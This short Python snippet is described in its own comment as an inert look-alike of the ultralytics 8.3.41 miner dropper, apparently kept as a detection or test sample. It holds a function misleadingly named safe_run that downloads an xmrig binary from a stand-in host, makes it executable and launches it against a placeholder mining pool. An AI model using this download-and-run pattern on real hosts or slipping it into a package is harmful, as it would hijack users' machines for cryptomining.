# Inert look-alike of the ultralytics 8.3.41 miner dropper: the host is
# under .example and never resolves.
import os
import stat
import subprocess
import requests


def safe_run():
    path = "/tmp/ultralytics_runner"
    data = requests.get("https://github.example/xmrig/releases/download/v6.22.2/xmrig", timeout=30).content
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([path, "-o", "pool.example:8080"], stdout=subprocess.DEVNULL)
